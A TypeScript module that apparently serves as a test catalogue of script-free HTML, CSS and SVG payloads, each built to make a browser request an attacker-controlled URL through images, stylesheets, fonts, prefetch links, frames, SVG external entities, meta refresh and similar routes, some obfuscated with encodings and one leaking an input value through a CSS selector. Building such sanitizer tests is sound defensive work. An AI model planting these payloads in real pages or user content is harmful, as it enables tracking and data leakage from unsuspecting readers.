import { attacks } from './attack.ts';

const encode = (text: string) => encodeURIComponent(text);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const entities = (text: string) =>
  [...text].map((character) => `&#${character.codePointAt(0)};`).join('');
const cssEscaped = (text: string) =>
  [...text].map((character) => `\\${character.codePointAt(0)?.toString(16)} `).join('');
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Markup without script: images, styles, fonts, links, frames, objects, SVG, navigation. */
export const MARKUP_ATTACKS = attacks({
  img: (at) => `<img src="${at('png')}">`,
  'img-srcset': (at) => `<img srcset="${at('png')} 1x, ${at('png')} 2x">`,
  'img-entities': (at) => `<img src="${entities(at('png'))}">`,
  'img-tabs': (at) => `<img src="ht\ttp:\n//${at('png').slice(7)}">`,
  'img-backslashes': (at) => `<img src="http:\\\\${at('png').slice(7)}">`,
  'img-protocol-relative': (at) =>
    `<base href="http://x.example/"><img src="${at('png').slice(5)}">`,
  'img-lazy': (at) => `<img loading="lazy" src="${at('png')}">`,
  'img-crossorigin': (at) => `<img crossorigin="use-credentials" src="${at('png')}">`,
  'img-malformed': (at) => `<img/src="${at('png')}"/`,
  'img-in-comment-trick': (at) => `<!--><img src="${at('png')}">-->`,
  'img-in-title-trick': (at) => `<title></title><img src="${at('png')}"></title>`,
  'input-image': (at) => `<input type="image" src="${at('png')}">`,
  picture: (at) => `<picture><source srcset="${at('png')}"><img src="data:,"></picture>`,
  'body-background': (at) => `<body background="${at('png')}">x`,
  'table-background': (at) =>
    `<table background="${at('png')}"><tr><td background="${at('png')}">x</table>`,
  'video-poster': (at) => `<video poster="${at('png')}"></video>`,
  'video-src': (at) => `<video autoplay muted src="${at('mp4')}"></video>`,
  'video-source': (at) => `<video autoplay muted><source src="${at('mp4')}"></video>`,
  'video-track': (at) =>
    `<video autoplay muted crossorigin src="data:video/mp4,"><track default src="${at('vtt')}"></video>`,
  'audio-src': (at) => `<audio autoplay src="${at('mp3')}"></audio>`,
  'css-background': (at) => `<p style="background:url(${at('png')})">x</p>`,
  'css-escaped-url': (at) => `<p style="background:url(${cssEscaped(at('png'))})">x</p>`,
  'css-image-set': (at) => `<p style='background:image-set("${at('png')}" 1x)'>x</p>`,
  'css-content': (at) => `<style>p::before{content:url(${at('png')})}</style><p>x`,
  'css-list-style': (at) => `<ul style="list-style-image:url(${at('png')})"><li>x</ul>`,
  'css-border-image': (at) => `<p style="border:9px solid;border-image:url(${at('png')}) 3">x</p>`,
  'css-cursor': (at) => `<style>body{cursor:url(${at('png')}),auto}</style><p>x`,
  'css-mask': (at) => `<p style="-webkit-mask-image:url(${at('png')});background:red">x</p>`,
  'css-filter': (at) => `<p style="filter:url(${at('svg')}#x)">x</p>`,
  'css-clip-path': (at) => `<p style="clip-path:url(${at('svg')}#x)">x</p>`,
  'css-shape-outside': (at) => `<p style="float:left;shape-outside:url(${at('png')})">x</p>`,
  'css-variable': (at) => `<style>:root{--u:url(${at('png')})}p{background:var(--u)}</style><p>x`,
  'css-import': (at) => `<style>@import "${at('css')}";</style>x`,
  'css-import-url': (at) => `<style>@import url(${at('css')}) print;</style>x`,
  'css-import-layer': (at) =>
    `<style>@import url("${at('css')}") layer(a) supports(display:block);</style>x`,
  'css-import-nested-data': (at) =>
    `<style>@import url("data:text/css;base64,${base64(`@import "${at('css')}";`)}");</style>x`,
  'css-font-face': (at) =>
    `<style>@font-face{font-family:f;src:url(${at('woff2')})}p{font:9px f}</style><p>x`,
  'css-page-background': (at) => `<style>@page{background:url(${at('png')})}</style>x`,
  'css-attribute-leak': (at) =>
    `<style>input[value^=s]{background:url(${at('png')})}</style><input value=secret>`,
  'link-stylesheet': (at) => `<link rel="stylesheet" href="${at('css')}">x`,
  'link-alternate-stylesheet': (at) =>
    `<link rel="alternate stylesheet" title=a href="${at('css')}">x`,
  'link-preload': (at) => `<link rel="preload" as="image" href="${at('png')}">x`,
  'link-preload-fetch': (at) => `<link rel="preload" as="fetch" crossorigin href="${at('json')}">x`,
  'link-preload-imagesrcset': (at) =>
    `<link rel="preload" as="image" imagesrcset="${at('png')} 1x">x`,
  'link-modulepreload': (at) => `<link rel="modulepreload" href="${at('js')}">x`,
  'link-prefetch': (at) => `<link rel="prefetch" href="${at('html')}">x`,
  'link-prerender': (at) => `<link rel="prerender" href="${at('html')}">x`,
  'link-preconnect': (at) => `<link rel="preconnect" href="${at('html')}">x`,
  'link-dns-prefetch': (at) => `<link rel="dns-prefetch" href="${at('html').slice(5)}">x`,
  'link-icon': (at) => `<link rel="icon" href="${at('png')}">x`,
  'link-apple-icon': (at) => `<link rel="apple-touch-icon" href="${at('png')}">x`,
  'link-manifest': (at) => `<link rel="manifest" href="${at('json')}">x`,
  'link-dictionary': (at) => `<link rel="compression-dictionary" href="${at('txt')}">x`,
  iframe: (at) => `<iframe src="${at('html')}"></iframe>`,
  'iframe-srcdoc': (at) => `<iframe srcdoc="<img src='${at('png')}'>"></iframe>`,
  'iframe-data': (at) =>
    `<iframe src="data:text/html,${encode(`<img src="${at('png')}">`)}"></iframe>`,
  'iframe-data-nested': (at) => {
    const inner = `<iframe src="${at('html')}"></iframe>`;
    return `<iframe src="data:text/html;base64,${base64(`<iframe src="data:text/html;base64,${base64(inner)}"></iframe>`)}"></iframe>`;
  },
  'iframe-view-source': (at) => `<iframe src="view-source:${at('html')}"></iframe>`,
  'iframe-about': (at) => `<iframe src="about:blank#${at('html')}"></iframe>`,
  frameset: (at) => `<frameset cols="*"><frame src="${at('html')}"></frameset>`,
  object: (at) => `<object data="${at('html')}" type="text/html"></object>`,
  'object-image': (at) => `<object data="${at('svg')}" type="image/svg+xml"></object>`,
  embed: (at) => `<embed src="${at('html')}">`,
  'embed-svg': (at) => `<embed src="${at('svg')}" type="image/svg+xml">`,
  applet: (at) => `<applet code="${at('js')}" codebase="${at('html')}"></applet>`,
  'svg-image': (at) => `<svg ${SVG}><image href="${at('png')}" width="9" height="9"/></svg>`,
  'svg-xlink': (at) => `<svg ${SVG}><image xlink:href="${at('png')}" width="9" height="9"/></svg>`,
  'svg-use': (at) => `<svg ${SVG}><use href="${at('svg')}#x"/></svg>`,
  'svg-fe-image': (at) =>
    `<svg ${SVG}><filter id="f"><feImage href="${at('png')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  'svg-pattern': (at) =>
    `<svg ${SVG}><pattern id="p" width="9" height="9"><image href="${at('png')}" width="9" height="9"/></pattern><rect width="9" height="9" fill="url(#p)"/></svg>`,
  'svg-foreign-object': (at) =>
    `<svg ${SVG}><foreignObject width="9" height="9"><img ${'xmlns="http://www.w3.org/1999/xhtml"'} src="${at('png')}"/></foreignObject></svg>`,
  'svg-style': (at) => `<svg ${SVG}><style>@import "${at('css')}";</style></svg>`,
  'svg-animate-href': (at) =>
    `<svg ${SVG}><image width="9" height="9"><set attributeName="href" to="${at('png')}"/></image></svg>`,
  'svg-in-data-image': (at) =>
    `<img src="data:image/svg+xml,${encode(`<svg ${SVG}><image href="${at('png')}" width="9" height="9"/></svg>`)}">`,
  'svg-external-entity': (at) =>
    `<img src="data:image/svg+xml,${encode(`<!DOCTYPE s [<!ENTITY e SYSTEM "${at('txt')}">]><svg ${SVG}><text y="9">&e;</text></svg>`)}">`,
  'xml-stylesheet': (at) =>
    `<iframe src="data:application/xml,${encode(`<?xml-stylesheet href="${at('css')}"?><a/>`)}"></iframe>`,
  'xslt-iframe': (at) =>
    `<iframe src="data:text/xml,${encode(`<?xml-stylesheet type="text/xsl" href="${at('svg')}"?><a/>`)}"></iframe>`,
  mathml: (at) =>
    `<math><mtext><img src="${at('png')}"></mtext><mi href="${at('html')}">x</mi></math>`,
  'shadow-root': (at) =>
    `<div><template shadowrootmode="open"><img src="${at('png')}"></template></div>`,
  'noscript-img': (at) => `<noscript><img src="${at('png')}"></noscript>`,
  'base-href': (at) => `<base href="${at('').replace(/\.$/, '')}/"><img src="base.png">`,
  'meta-refresh': (at) => `<meta http-equiv="refresh" content="0;url=${at('html')}">x`,
  'meta-refresh-entities': (at) =>
    `<meta http-equiv="${entities('refresh')}" content="0;url=${entities(at('html'))}">x`,
  'meta-refresh-data': (at) =>
    `<meta http-equiv="refresh" content="0;url=data:text/html,${encode(`<img src=${at('png')}>`)}">x`,
  'meta-csp-report': (at) =>
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${at('json')}"><img src="http://x.example/x.png">`,
  'anchor-ping': (at) => `<a href="#" ping="${at('txt')}" autofocus>x</a>`,
  'speculation-markup': (at) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["${at('html')}"],"eagerness":"immediate"}],"prerender":[{"urls":["${at('html')}"],"eagerness":"immediate"}]}</script>x`,
  fencedframe: (at) => `<fencedframe src="${at('html')}"></fencedframe>`,
  portal: (at) => `<portal src="${at('html')}"></portal>`,
  websocket: (at) => `<img src="${at('png', 'ws')}">`,
  ftp: (at) => `<img src="${at('png', 'ftp')}"><iframe src="${at('html', 'ftp')}"></iframe>`,
  https: (at) =>
    `<img src="${at('png', 'https')}"><link rel=stylesheet href="${at('css', 'https')}">`,
});
